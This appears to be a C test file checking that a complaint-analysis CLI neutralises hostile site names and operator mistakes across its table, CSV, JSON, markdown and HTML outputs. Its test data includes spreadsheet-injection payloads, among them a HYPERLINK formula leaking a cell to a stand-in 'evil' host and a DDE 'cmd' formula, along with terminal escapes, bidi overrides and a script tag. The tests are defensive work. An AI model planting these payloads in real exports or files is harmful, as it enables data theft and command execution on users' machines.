/*
 * test_hostile.c - operator mistakes and hostile data (issue 17), end to end against the
 * throwaway PostgreSQL: hostile names through every output format, formula cells in
 * every CSV, display-width tables, no complaint text in the results, weeks that have not
 * happened, empty windows, bounded lock and statement waits, and the CLI nits.
 * One table-driven test per item.
 */
#define _XOPEN_SOURCE 700 /* wcswidth (the reference for alignment), realpath */
#include <criterion/criterion.h>
#include <fcntl.h>
#include <locale.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <wchar.h>

#include "support.h"

#define RULES "tests/data/run/rules.yaml"
#define WEEK  "2026-W31" /* the last of the 30 weeks the fixture data spans */

/*
 * The hostile-names corpus: sites (and complaint ids) a source may hold. Each is a
 * name an attacker or a careless import could put in a CRM: spreadsheet formulas,
 * terminal escapes, bidi overrides, line breaks, quotes, HTML, markdown, 4-byte UTF-8,
 * and a 1 kB name (built in SQL).
 */
static const char *const hostile_sites[] = {
    "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
    "@evil",
    "+1+1",
    "-2+3",
    "\tTAB",
    "esc\x1b[2J\x1b[31mred\x07",
    "csi\xc2\x9b"
    "31m",
    "rlo\xe2\x80\xae"
    "txt.exe",
    "first line\nsecond line",
    "quote\"s, and 'apos'",
    "<script>alert(1)</script>",
    "pipe|cell *bold* _it_ [link](x)",
    "emoji \xf0\x9f\x98\x80 \xf0\x9f\x8f\xaa",
    "\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e\xe3\x81\xae\xe5\xba\x97\xe8\x88\x97\xe5\x90\x8d"
    "\xe3\x81\xa7\xe3\x81\x99\xe3\x81\x8c\xe9\x95\xb7\xe3\x81\x84\xe3\x81\xa7\xe3\x81\x99",
};
#define HOSTILE_COUNT (sizeof(hostile_sites) / sizeof(hostile_sites[0]))

typedef struct fixture {
    char src[64], results[64];
    char *config;
} fixture;

#define sql  cw_test_sql
#define sqlf cw_test_sqlf

/* s as an SQL E'' literal body (caller storage of 4x + 1 bytes). */
static void sql_escape(char *out, const char *s)
{
    for (; *s != '\0'; s++) {
        unsigned char c = (unsigned char)*s;
        if (c == '\'' || c == '\\')
            out += sprintf(out, "%c%c", c, c);
        else if (c < 0x20)
            out += sprintf(out, "\\x%02x", c);
        else
            *out++ = (char)c;
    }
    *out = '\0';
}

/* A source with text ids; `extra` more config lines (may be ""). No rows. */
static void setup(fixture *f, const char *extra)
{
    cw_test_unique_name(f->src, sizeof(f->src), "hsrc");
    cw_test_unique_name(f->results, sizeof(f->results), "hres");
    sqlf("CREATE SCHEMA %s; CREATE TABLE %s.complaints (id text PRIMARY KEY,"
         " received_at timestamptz NOT NULL, channel text, site text, product text,"
         " segment text, body text)",
         f->src, f->src);
    char text[4608], rules[4096];
    cr_assert_not_null(realpath(RULES, rules));
    snprintf(text, sizeof(text), "rules: %s\nsource:\n  table: %s.complaints\n%s", rules, f->src,
             extra);
    f->config = cw_test_write_temp(text, strlen(text));
    cr_assert_not_null(f->config);
    cw_test_db_init(f->results);
}

static void teardown(fixture *f)
{
    unlink(f->config);
    free(f->config);
}

/* 30 weeks from 2026-W02 of complaints at `site` (SQL expression), ids "<prefix>-<n>". */
static void fill_site(const fixture *f, const char *site_sql, const char *prefix, int per_week)
{
    sqlf("INSERT INTO %s.complaints SELECT '%s-' || g,"
         " timestamptz '2026-01-05 10:00+00' + (g %% 30) * interval '7 days', 'web', %s, 'p',"
         " 'retail', CASE g %% 3 WHEN 0 THEN 'they sent the wrong order again'"
         " WHEN 1 THEN 'the cashier was rude' ELSE 'the app crashed twice' END"
         " FROM generate_series(1, %d) g",
         f->src, prefix, site_sql, 30 * per_week);
}

/* causeway `cmd` `args`... (NULL-ended), then the fixture's connection, config and schema. */
static void cw(cw_test_output *r, const fixture *f, const char *cmd, ...)
{
    const char *argv[32] = {"causeway", cmd};
    size_t n = 2;
    va_list ap;
    va_start(ap, cmd);
    for (const char *a; (a = va_arg(ap, const char *)) != NULL && n < 24;)
        argv[n++] = a;
    va_end(ap);
    const char *tail[] = {"-d", cw_test_dsn(), "-c", f->config, "--schema", f->results};
    for (size_t i = 0; i < 6; i++)
        argv[n++] = tail[i];
    argv[n] = NULL;
    cr_assert_eq(cw_test_run(r, NULL, NULL, argv), 0);
}

/* Whether s is valid UTF-8 without C0 (but \n, \r, \t), DEL, C1 or bidi controls. */
static const char *unsafe_at(const char *s, size_t len, bool allow_tab)
{
    const unsigned char *p = (const unsigned char *)s;
    for (size_t i = 0; i < len;) {
        unsigned char c = p[i];
        if (c < 0x80) {
            if ((c < 0x20 && c != '\n' && c != '\r' && !(allow_tab && c == '\t')) || c == 0x7f)
                return s + i;
            i++;
            continue;
        }
        size_t k = c >= 0xf0 ? 4 : c >= 0xe0 ? 3 : c >= 0xc2 ? 2 : 0;
        if (k == 0 || i + k > len)
            return s + i;
        for (size_t j = 1; j < k; j++)
            if ((p[i + j] & 0xc0) != 0x80)
                return s + i;
        if (c == 0xc2 && p[i + 1] <= 0x9f) /* C1 */
            return s + i;
        if (c == 0xe2 && p[i + 1] == 0x80 &&
            ((p[i + 2] >= 0xaa && p[i + 2] <= 0xae) || p[i + 2] == 0x8e || p[i + 2] == 0x8f))
            return s + i;
        if (c == 0xe2 && p[i + 1] == 0x81 && p[i + 2] >= 0xa6 && p[i + 2] <= 0xa9)
            return s + i;
        i += k;
    }
    return NULL;
}

/* The cells of an RFC 4180 document that begin like a formula and are no number. */
static int formula_cells(const char *csv, char *first, size_t size)
{
    int found = 0;
    const char *p = csv;
    while (*p != '\0') {
        /* One cell. */
        char cell[4096];
        size_t n = 0;
        if (*p == '"') {
            for (p++; *p != '\0'; p++) {
                if (*p == '"' && p[1] == '"')
                    p++;
                else if (*p == '"') {
                    p++;
                    break;
                }
                if (n + 1 < sizeof(cell))
                    cell[n++] = *p;
            }
        } else {
            for (; *p != '\0' && *p != ',' && *p != '\n' && *p != '\r'; p++)
                if (n + 1 < sizeof(cell))
                    cell[n++] = *p;
        }
        cell[n] = '\0';
        if (n > 0 && strchr("=+-@\t\r", cell[0]) != NULL) {
            char *end;
            strtod(cell, &end);
            if (*end != '\0' && found++ == 0) {
                /* Cut to `size` on purpose: the message needs only the cell's start. */
                size_t k = n < size - 1 ? n : size - 1;
                memcpy(first, cell, k);
                first[k] = '\0';
            }
        }
        if (*p == ',' || *p == '\r' || *p == '\n')
            p++;
        if (p[-1] == '\r' && *p == '\n')
            p++;
    }
    return found;
}

static void load_hostile_sites(const fixture *f)
{
    for (size_t i = 0; i < HOSTILE_COUNT; i++) {
        char escaped[1024], site[1100], prefix[16];
        sql_escape(escaped, hostile_sites[i]);
        snprintf(site, sizeof(site), "E'%s'", escaped);
        snprintf(prefix, sizeof(prefix), "h%zu", i);
        fill_site(f, site, prefix, 2);
    }
    /* 1 kB of 4-byte UTF-8 and a formula id. */
    fill_site(f, "repeat(E'\\U0001F600', 256)", "long", 2);
    fill_site(f, "'formula ids'", "=1+1", 2);
}

/*
 * Item 3 and the hostile corpus: every output format of a ranking whose sites are
 * hostile is valid UTF-8 without control or bidi characters (CSV and JSON keep line
 * breaks only quoted or escaped), HTML is escaped, markdown escaped, JSON valid.
 */
Test(hostile, hostile_names_are_safe_in_every_output_format, .timeout = 240)
{
    fixture f;
    setup(&f, "");
    load_hostile_sites(&f);
    cw_test_output r;
    cw(&r, &f, "run", "-r", RULES, "--week", WEEK, "--format", "json", NULL);
    cr_assert_eq(r.status, 0, "run: %s", r.err);
    cw_test_output_fini(&r);
    static const struct {
        const char *format;
        bool raw_newline_ok; /* inside a quoted CSV cell */
    } formats[] = {
        {"table", false}, {"markdown", false}, {"csv", true}, {"json", false}, {"html", false}};
    for (size_t i = 0; i < sizeof(formats) / sizeof(formats[0]); i++) {
        cw(&r, &f, "report", "--week", WEEK, "--top", "0", "--snippets", "--format",
           formats[i].format, NULL);
        cr_assert_eq(r.status, 0, "%s: %s", formats[i].format, r.err);
        const char *bad = unsafe_at(r.out, r.out_len, false);
        cr_assert_null(bad, "%s: unsafe byte 0x%02x at offset %zu: %.40s", formats[i].format,
                       bad != NULL ? (unsigned char)*bad : 0, (size_t)(bad - r.out), bad);
        cr_assert_not_null(strstr(r.out, "formula ids"), "%s: sites missing", formats[i].format);
        if (!formats[i].raw_newline_ok)
            cr_assert_null(strstr(r.out, "\nsecond line"), "%s: a name broke a line",
                           formats[i].format);
        if (strcmp(formats[i].format, "html") == 0 || strcmp(formats[i].format, "markdown") == 0)
            cr_assert_null(strstr(r.out, "<script>"), "%s: raw HTML", formats[i].format);
        if (strcmp(formats[i].format, "markdown") == 0) {
            cr_assert_null(strstr(r.out, "pipe|cell"), "markdown: a name split a cell");
            cr_assert_not_null(strstr(r.out, "pipe\\|cell \\*bold\\*"), "markdown: %s", r.out);
        }
        if (strcmp(formats[i].format, "html") == 0)
            cr_assert_not_null(strstr(r.out, "&lt;script&gt;"), "html: not escaped");
        if (strcmp(formats[i].format, "json") == 0) {
            /* jansson writes the escape in upper case (JSON_ENSURE_ASCII, json.h) */
            cr_assert_not_null(strstr(r.out, "\\u202E"), "json: the override is kept escaped");
            cw_test_check_json_schema(r.out, "{items,0,status}", "\"unknown\"", "status");
        }
        cw_test_output_fini(&r);
    }
    teardown(&f);
}

/* Item 2: no cell of any CSV causeway writes starts like a formula. */
Test(hostile, every_csv_neutralises_formula_cells, .timeout = 240)
{
    fixture f;
    setup(&f, "");
    load_hostile_sites(&f);
    cw_test_output r;
    cw(&r, &f, "run", "-r", RULES, "--week", WEEK, "--format", "csv", NULL);
    cr_assert_eq(r.status, 0, "run: %s", r.err);
    cw_test_output_fini(&r);
    cw(&r, &f, "remediation", "add", "--area", "people", "--started", "2026-W20", "--title",
       "=cmd|' /C calc'!A0", "--owner", "@owner", NULL);
    cr_assert_eq(r.status, 0, "remediation add: %s", r.err);
    cw_test_output_fini(&r);
    static const char rows[] = "id,text\n=1+1,the cashier was rude\n@x,wrong order\n";
    char *input = cw_test_write_temp(rows, strlen(rows));
    static const struct {
        const char *what;
        const char *args[12];
    } cases[] = {
        {"ranking", {"report", "--week", WEEK, "--format", "csv", NULL}},
        {"changes", {"report", "--week", WEEK, "--format", "csv", "--changes-only", NULL}},
        {"remediation list", {"remediation", "list", "--format", "csv", NULL}},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        const char *const *a = cases[i].args;
        cw(&r, &f, a[0], a[1], a[2], a[3], a[4], a[5], a[6], NULL);
        cr_assert_eq(r.status, 0, "%s: %s", cases[i].what, r.err);
        char first[256] = "";
        cr_assert_eq(formula_cells(r.out, first, sizeof(first)), 0, "%s: live formula '%s'",
                     cases[i].what, first);
        cw_test_output_fini(&r);
    }
    const char *classify[] = {"causeway", "classify", RULES, input, "-i", "csv", "--explain", NULL};
    cr_assert_eq(cw_test_run(&r, NULL, NULL, classify), 0);
    cr_assert_eq(r.status, 0, "classify: %s", r.err);
    char first[256] = "";
    cr_assert_eq(formula_cells(r.out, first, sizeof(first)), 0, "classify: live formula '%s'",
                 first);
    cr_assert_not_null(strstr(r.out, "\"'=1+1\""), "classify: %s", r.out);
    cw_test_output_fini(&r);
    unlink(input);
    free(input);
    teardown(&f);
}

/* The display column at which `needle` starts in `line` (wcswidth of what precedes it). */
static int column_of(const char *line, const char *needle)
{
    const char *at = strstr(line, needle);
    cr_assert_not_null(at, "'%s' not in '%s'", needle, line);
    wchar_t wide[512];
    char prefix[2048];
    snprintf(prefix, sizeof(prefix), "%.*s", (int)(at - line), line);
    size_t n = mbstowcs(wide, prefix, 512);
    cr_assert_neq(n, (size_t)-1, "invalid UTF-8 before '%s' in '%s'", needle, line);
    return wcswidth(wide, n);
}

/* Item 4: names are cut and padded by display width: the status column lines up. */
Test(hostile, the_table_aligns_by_display_width, .timeout = 240)
{
    if (setlocale(LC_CTYPE, "C.UTF-8") == NULL)
        cr_skip_test("no C.UTF-8 locale to measure with");
    fixture f;
    setup(&f, "");
    static const char *const sites[] = {"'leeds'", "E'caf\\u00e9 \\u00e9t\\u00e9'",
                                        "E'\\u65e5\\u672c\\u8a9e\\u306e\\u5e97\\u8217\\u540d"
                                        "\\u3067\\u3059\\u304c\\u9577\\u3044\\u3067\\u3059'",
                                        "repeat(E'\\U0001F600', 40)", "repeat(E'e\\u0301', 50)"};
    for (size_t i = 0; i < sizeof(sites) / sizeof(sites[0]); i++) {
        char prefix[16];
        snprintf(prefix, sizeof(prefix), "w%zu", i);
        fill_site(&f, sites[i], prefix, 2);
    }
    cw_test_output r;
    cw(&r, &f, "run", "-r", RULES, "--week", WEEK, "--top", "0", NULL);
    cr_assert_eq(r.status, 0, "run: %s", r.err);
    int column = -1, rows = 0;
    char *save = NULL;
    for (char *line = strtok_r(r.out, "\n", &save); line != NULL;
         line = strtok_r(NULL, "\n", &save)) {
        if (strstr(line, " @ ") == NULL || strstr(line, "driver") != NULL ||
            strstr(line, "fix #") != NULL)
            continue;
        const char *status = strstr(line, "stable") != NULL         ? "stable"
                             : strstr(line, "insufficient") != NULL ? "insufficient"
                             : strstr(line, "drift") != NULL        ? "drift"
                             : strstr(line, "shift") != NULL        ? "shift"
                                                                    : "spike";
        int c = column_of(line, status);
        if (column < 0)
            column = c;
        cr_assert_eq(c, column, "misaligned (%d, not %d): %s", c, column, line);
        rows++;
    }
    cr_assert_geq(rows, 5, "area x site rows: %s", r.out);
    cw_test_output_fini(&r);
    teardown(&f);
}

/*
 * Item 5, the migration: rankings stored by an older causeway kept snippet text.
 * Migration 0009 strips it and recovers each example's offsets from `classified`, so
 * the report still shows the evidence, cut from the source, and nothing once erased.
 */
Test(hostile, migration_9_strips_stored_snippets_and_keeps_offsets, .timeout = 240)
{
    fixture f;
    setup(&f, "");
    fill_site(&f, "'leeds'", "m", 2);
    cw_test_output r;
    cw(&r, &f, "run", "-r", RULES, "--week", WEEK, NULL);
    cr_assert_eq(r.status, 0, "run: %s", r.err);
    cw_test_output_fini(&r);
    /* As version 6 stored them: text, no offsets. */
    sqlf("UPDATE %s.rankings SET examples = (SELECT jsonb_agg(jsonb_build_object("
         "'complaint_id', x->>'complaint_id', 'symptom_id', x->>'symptom_id',"
         "'snippet', 'SECRET TEXT the cashier was rude')) FROM jsonb_array_elements(examples) x)"
         " WHERE jsonb_array_length(examples) > 0;"
         " DELETE FROM %s.schema_migrations WHERE version = 9",
         f.results, f.results);
    const char *migrate[] = {"causeway",    "db",       "migrate", "-d",
                             cw_test_dsn(), "--schema", f.results, NULL};
    cr_assert_eq(cw_test_run(&r, NULL, NULL, migrate), 0);
    cr_assert_eq(r.status, 0, "migrate: %s", r.err);
    cw_test_output_fini(&r);
    char query[512];
    snprintf(query, sizeof(query),
             "SELECT count(*) FILTER (WHERE examples::text ~ '(snippet|SECRET)') || ' ' ||"
             " count(*) FILTER (WHERE examples::text ~ 'span_end') FROM %s.rankings",
             f.results);
    char *counts = sql(query);
    cr_assert(strncmp(counts, "0 ", 2) == 0 && strcmp(counts, "0 0") != 0, "after 0009: %s",
              counts);
    free(counts);
    static const struct {
        const char *when;
        bool text_shown;
    } steps[] = {{"in the source", true}, {"erased from the source", false}};
    for (size_t i = 0; i < 2; i++) {
        if (!steps[i].text_shown)
            sqlf("DELETE FROM %s.complaints", f.src);
        cw(&r, &f, "report", "--week", WEEK, "--snippets", NULL);
        cr_assert_eq(r.status, 0, "report: %s", r.err);
        cr_assert_null(strstr(r.out, "SECRET"), "%s: %s", steps[i].when, r.out);
        cr_assert_eq(strstr(r.out, "the cashier was rude\"") != NULL, steps[i].text_shown, "%s: %s",
                     steps[i].when, r.out);
        cr_assert_eq(strstr(r.out, "(text no longer in the source)") != NULL, !steps[i].text_shown,
                     "%s: %s", steps[i].when, r.out);
        cw_test_output_fini(&r);
    }
    teardown(&f);
}

/* Item 6: weeks that have not happened are refused and store nothing. */
Test(hostile, weeks_that_have_not_happened_are_refused, .timeout = 240)
{
    fixture f;
    setup(&f, "");
    fill_site(&f, "'leeds'", "w", 1);
    char *current = sql("SELECT to_char(now() AT TIME ZONE 'UTC', 'IYYY-\"W\"IW')");
    char *next =
        sql("SELECT to_char((now() AT TIME ZONE 'UTC') + interval '7 days', 'IYYY-\"W\"IW')");
    static const struct {
        const char *week; /* NULL: the current week, "+": the next one */
        const char *flag;
        int status;
        const char *says;
        int stored;
    } cases[] = {
        {"2099-W01", NULL, 64, "2099-W01 is in the future", 0},
        {"+", NULL, 64, "is in the future", 0},
        {NULL, NULL, 64, "has not ended yet", 0},
        {NULL, "--allow-partial", 0, "", 1},
        {"2025-W40..2026-W03", NULL, 0, "of the 16 weeks in the range have no complaints", 17},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        const char *week = cases[i].week == NULL             ? current
                           : strcmp(cases[i].week, "+") == 0 ? next
                                                             : cases[i].week;
        cw_test_output r;
        cw(&r, &f, "run", "-r", RULES, "--week", week, cases[i].flag, NULL);
        cr_assert_eq(r.status, cases[i].status, "case %zu (%s): %d: %s", i, week, r.status, r.err);
        cr_assert_not_null(strstr(r.err, cases[i].says), "case %zu: %s", i, r.err);
        cw_test_output_fini(&r);
        char query[256];
        snprintf(query, sizeof(query), "SELECT count(DISTINCT target_week) FROM %s.rankings",
                 f.results);
        char *stored = sql(query);
        cr_assert_eq(atoi(stored), cases[i].stored, "case %zu: %s weeks stored", i, stored);
        free(stored);
    }
    free(current);
    free(next);
    teardown(&f);
}

/* Item 10: an empty source or an empty window says so (stderr and the report). */
Test(hostile, an_empty_window_says_so, .timeout = 240)
{
    fixture f;
    setup(&f, "");
    static const struct {
        const char *fill; /* a site to fill first, or NULL: the source stays empty */
        const char *week, *format;
        bool empty;
    } cases[] = {
        {NULL, WEEK, "table", true},
        {NULL, WEEK, "markdown", true},
        {"'leeds'", "2025-W10", "html", true},
        {NULL, WEEK, "table", false}, /* the data of the row before, in its window */
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        if (cases[i].fill != NULL)
            fill_site(&f, cases[i].fill, "e", 1);
        cw_test_output r;
        cw(&r, &f, "run", "-r", RULES, "--week", cases[i].week, "--format", cases[i].format, NULL);
        cr_assert_eq(r.status, 0, "case %zu: %s", i, r.err);
        cr_assert_eq(strstr(r.err, "no complaints in the 4 weeks up to") != NULL, cases[i].empty,
                     "case %zu: stderr %s", i, r.err);
        cr_assert_eq(strstr(r.out, "nothing to rank") != NULL, cases[i].empty, "case %zu: %.300s",
                     i, r.out);
        cw_test_output_fini(&r);
    }
    teardown(&f);
}

/* A psql in the background holding `lock` on `table` until killed; returns its pid. */
static pid_t hold_lock(const char *table, const char *app)
{
    char script[512];
    snprintf(script, sizeof(script),
             "BEGIN; LOCK TABLE %s IN ACCESS EXCLUSIVE MODE; SELECT pg_sleep(120); COMMIT;", table);
    pid_t pid = fork();
    cr_assert(pid >= 0);
    if (pid == 0) {
        int null = open("/dev/null", O_WRONLY);
        dup2(null, 1);
        dup2(null, 2);
        setenv("PGAPPNAME", app, 1);
        execlp("psql", "psql", "-XAtq", "-d", cw_test_dsn(), "-c", script, (char *)NULL);
        _exit(127);
    }
    /* Wait until the lock is granted. */
    char query[512];
    snprintf(query, sizeof(query),
             "SELECT count(*) FROM pg_locks l JOIN pg_stat_activity a USING (pid)"
             " WHERE a.application_name = '%s' AND l.mode = 'AccessExclusiveLock' AND l.granted",
             app);
    for (int i = 0; i < 200; i++) {
        char *n = sql(query);
        bool held = strcmp(n, "0") != 0;
        free(n);
        if (held)
            return pid;
        nanosleep(&(struct timespec){.tv_nsec = 50000000}, NULL);
    }
    cr_assert_fail("the lock on %s was not taken", table);
    return pid;
}

static void release_lock(pid_t pid, const char *app)
{
    sqlf("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE application_name = '%s'",
         app);
    kill(pid, SIGTERM);
    waitpid(pid, NULL, 0);
}

/*
 * Item 13: a run behind a lock on the source, or on a source too slow for the
 * statement timeout, fails with 75 and says which wait ran out, writing nothing.
 */
Test(hostile, lock_and_statement_timeouts_are_temporary_failures, .timeout = 240)
{
    static const struct {
        const char *config; /* extra configuration lines */
        bool lock;          /* hold a lock on the source */
        bool slow;          /* the source is a view that sleeps */
        const char *says;
    } cases[] = {
        {"lock_timeout: 1\n", true, false, "waited more than 1 s for a lock another session holds"},
        {"statement_timeout: 1\n", false, true, "a statement ran longer than 1 s"},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        fixture f;
        setup(&f, cases[i].config);
        fill_site(&f, "'leeds'", "t", 1);
        if (cases[i].slow) {
            /* The configured table becomes a view that takes 3 s to read. */
            sqlf("ALTER TABLE %s.complaints RENAME TO rows; CREATE VIEW %s.complaints AS"
                 " SELECT r.* FROM %s.rows r WHERE pg_sleep(0.1) IS NOT NULL",
                 f.src, f.src, f.src);
        }
        char app[64], table[128];
        cw_test_unique_name(app, sizeof(app), "holder");
        snprintf(table, sizeof(table), "%s.complaints", f.src);
        pid_t holder = cases[i].lock ? hold_lock(table, app) : 0;
        cw_test_output r;
        cw(&r, &f, "run", "-r", RULES, "--week", WEEK, NULL);
        if (holder != 0)
            release_lock(holder, app);
        cr_assert_eq(r.status, 75, "case %zu: %d: %s", i, r.status, r.err);
        cr_assert_not_null(strstr(r.err, cases[i].says), "case %zu: %s", i, r.err);
        cr_assert_not_null(strstr(r.err, "nothing was written"), "case %zu: %s", i, r.err);
        cw_test_output_fini(&r);
        char query[256];
        snprintf(query, sizeof(query), "SELECT count(*) FROM %s.runs", f.results);
        char *runs = sql(query);
        cr_assert_str_eq(runs, "0", "case %zu: a run was recorded", i);
        free(runs);
        teardown(&f);
    }
}

/* Item 14: the nits, each with the exit status and words the documentation gives. */
Test(hostile, operator_mistakes_exit_as_documented, .timeout = 240)
{
    fixture f;
    setup(&f, "");
    fill_site(&f, "'leeds'", "n", 1);
    char *bad_config = cw_test_write_temp("source: [unclosed\n", 18);
    char dir[] = "/tmp/cw-dir-XXXXXX";
    cr_assert_not_null(mkdtemp(dir));
    static const struct {
        const char *args[12];
        int status;
        const char *out, *err; /* expected in stdout / stderr ("" any, NULL: empty) */
    } cases[] = {
        {{"run", "--lookback-weeks", "0", NULL}, 64, "", "lookback_weeks: 0 is outside"},
        {{"run", "--schema", "Bad-Name", NULL}, 64, "", "not a valid schema name"},
        {{"run", "-c", "@BAD", NULL}, 65, "", ":1:"},
        {{"classify", RULES, "@DIR", NULL}, 66, "", "is a directory"},
        {{"-q", "db", "init", "--schema", "@RESULTS", NULL}, 0, NULL, NULL},
        {{"-q", "run", "-r", RULES, "--week", WEEK, NULL}, 0, "", NULL},
        {{"run", "--help", NULL}, 0, "instead of\n                           standard output", ""},
        {{"run", "--help", NULL}, 0, "a range stores\n                           every week", ""},
        {{"report", "--week", WEEK, NULL}, 0, "symptoms: rude 1, wrong_order 0.3\n", ""},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        const char *argv[20] = {"causeway"};
        size_t n = 1;
        bool dsn = true;
        for (const char *const *a = cases[i].args; *a != NULL; a++) {
            const char *v = *a;
            if (strcmp(v, "@BAD") == 0)
                v = bad_config;
            else if (strcmp(v, "@DIR") == 0)
                v = dir;
            else if (strcmp(v, "@RESULTS") == 0)
                v = f.results;
            if (strcmp(v, "classify") == 0 || strcmp(v, "--help") == 0)
                dsn = false;
            argv[n++] = v;
        }
        if (dsn) {
            argv[n++] = "-d";
            argv[n++] = cw_test_dsn();
            if (strcmp(cases[i].args[0], "-q") != 0 || strcmp(cases[i].args[1], "run") == 0) {
                const char *tail[] = {"--schema", f.results};
                if (strcmp(cases[i].args[1], "--schema") != 0 &&
                    strcmp(cases[i].args[1], "-c") != 0) {
                    argv[n++] = "-c";
                    argv[n++] = f.config;
                }
                if (strcmp(cases[i].args[1], "--schema") != 0) {
                    argv[n++] = tail[0];
                    argv[n++] = tail[1];
                }
            }
        }
        argv[n] = NULL;
        cw_test_output r;
        cr_assert_eq(cw_test_run(&r, NULL, NULL, argv), 0);
        cr_assert_eq(r.status, cases[i].status, "case %zu: %d: %s", i, r.status, r.err);
        if (cases[i].out == NULL)
            cr_assert_eq(r.out_len, 0, "case %zu: stdout %s", i, r.out);
        else
            cr_assert_not_null(strstr(r.out, cases[i].out), "case %zu: stdout %.2000s", i, r.out);
        if (cases[i].err == NULL)
            cr_assert_eq(r.err_len, 0, "case %zu: stderr %s", i, r.err);
        else
            cr_assert_not_null(strstr(r.err, cases[i].err), "case %zu: stderr %s", i, r.err);
        cw_test_output_fini(&r);
    }
    unlink(bad_config);
    free(bad_config);
    rmdir(dir);
    teardown(&f);
}
